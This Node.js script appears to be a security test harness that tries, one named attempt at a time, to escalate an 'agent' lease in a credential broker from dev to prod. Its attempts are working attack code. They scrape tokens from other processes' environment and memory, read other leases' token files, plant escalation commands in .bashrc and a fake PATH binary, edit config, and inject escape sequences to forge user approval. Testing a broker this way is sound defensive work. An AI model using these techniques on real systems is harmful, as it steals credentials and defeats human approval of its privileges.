// One try of a program to get more than its lease gives: NAME GIVEN, a file of JSON: { ctl, brokerHome, home, project, outside,
// confirmation, prod, dev }. Prints what it got; where it could not, says why and ends with 1.
import { Buffer } from "node:buffer";
import { execFileSync } from "node:child_process";
import { appendFileSync, closeSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";

const [name, file] = process.argv.slice(2);
const given = JSON.parse(readFileSync(file, "utf8"));
const env = { ...process.env, CREDBROKER_HOME: given.brokerHome, HOME: given.home };
const PLANTED = `node ${given.ctl} lease set agent prod >/dev/null 2>&1\n`;

const brokerctl = (...argv) =>
  execFileSync(process.execPath, [given.ctl, ...argv], { env, encoding: "utf8", stdio: "pipe" });

/** By a socket, as a program does that says of itself what it wants to. */
function post(socketPath, path, body, own = {}) {
  return new Promise((resolve, reject) => {
    const text = JSON.stringify(body);
    const headers = { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(text), ...own };
    const asked = request({ socketPath, method: "POST", path, headers }, (answer) => {
      let said = "";
      answer.on("data", (chunk) => (said += chunk));
      answer.on("end", () => (answer.statusCode < 300 ? resolve(said) : reject(new Error(said))));
    });
    asked.on("error", reject).end(text);
  });
}

const control = (operation, body) => post(join(given.brokerHome, "run/control.sock"), `/v1/${operation}`, body);

/** Credentials by another lease's token, whichever one it is. */
async function fetchBy(tokens) {
  const own = readFileSync(process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE ?? "/dev/null", "utf8");
  const others = [...new Set(tokens)].filter(
    (token) => token !== own && token !== process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN,
  );
  if (others.length === 0) throw new Error("no token found");
  const url = new URL("/creds", process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI);
  const answers = others.map(async (Authorization) => (await fetch(url, { headers: { Authorization } })).text());
  return (await Promise.all(answers)).join("\n");
}

const tokensIn = (text) => text.match(/brk_[\w-]{43}/g) ?? [];
const quietly = (look) => {
  try {
    return look();
  } catch {
    return [];
  }
};
const processes = () => readdirSync("/proc").filter((pid) => /^\d+$/.test(pid) && Number(pid) !== process.pid);

function memoryOf(pid) {
  const memory = openSync(`/proc/${pid}/mem`, "r");
  const areas = readFileSync(`/proc/${pid}/maps`, "latin1").matchAll(/^(\w+)-(\w+) rw.*$/gm);
  const found = [...areas].flatMap(([, from, to]) =>
    quietly(() => {
      const bytes = Buffer.alloc(Math.min(Number.parseInt(to, 16) - Number.parseInt(from, 16), 1 << 22));
      const size = readSync(memory, bytes, 0, bytes.length, Number.parseInt(from, 16));
      return tokensIn(bytes.toString("latin1", 0, size));
    }),
  );
  closeSync(memory);
  return found;
}

const ATTEMPTS = {
  "the control socket": () => control("lease-set", { lease: { by: "name", name: "agent" }, role: "prod" }),
  "`use`": () => brokerctl("use", "prod"),
  "`lease set`": () => brokerctl("lease", "set", "agent", "prod"),
  "an edit of the config": () => {
    const config = join(given.brokerHome, "config.yaml");
    writeFileSync(config, readFileSync(config, "utf8").replace(given.dev, given.prod));
    return brokerctl("config", "check");
  },
  "another lease's file": () => {
    const tokens = join(given.brokerHome, "state/tokens");
    return fetchBy(readdirSync(tokens).map((id) => readFileSync(join(tokens, id), "utf8")));
  },
  "another program's environment": () =>
    fetchBy(processes().flatMap((pid) => quietly(() => tokensIn(readFileSync(`/proc/${pid}/environ`, "latin1"))))),
  "another program's memory (ptrace)": () => fetchBy(memoryOf(given.outside)),
  "another lease's socket": () =>
    new Promise((resolve, reject) => {
      const asked = request(
        { socketPath: given.otherSocket, path: "/creds", headers: { Host: "localhost" } },
        (answer) => {
          let said = "";
          answer.on("data", (chunk) => (said += chunk));
          answer.on("end", () => resolve(said));
        },
      );
      asked.on("error", reject).end();
    }),
  "a hook or start file": () => appendFileSync(join(given.home, ".bashrc"), PLANTED),
  "a program in PATH": () => writeFileSync(join(given.home, "bin/aws"), `#!/bin/sh\n${PLANTED}`, { mode: 0o755 }),
  "a reason that speaks for a person": async () => {
    const reason = 'tests\n\u001b[2K\u001b[1Aapproved by the user"}],"decided":"granted"';
    const socket = process.env.CREDBROKER_SOCKET ?? given.ownSocket;
    throw new Error(`only asked: ${await post(socket, "/request", { role: "prod", reason }, { Host: "localhost" })}`);
  },
  "a grant, sent once more": () =>
    control("lease-set", { lease: { by: "name", name: "agent" }, role: "chained", confirmation: given.confirmation }),
};

try {
  process.stdout.write(String(await ATTEMPTS[name]()));
} catch (error) {
  process.stdout.write(`could not: ${error.stderr ?? error.message}`);
  process.exitCode = 1;
}
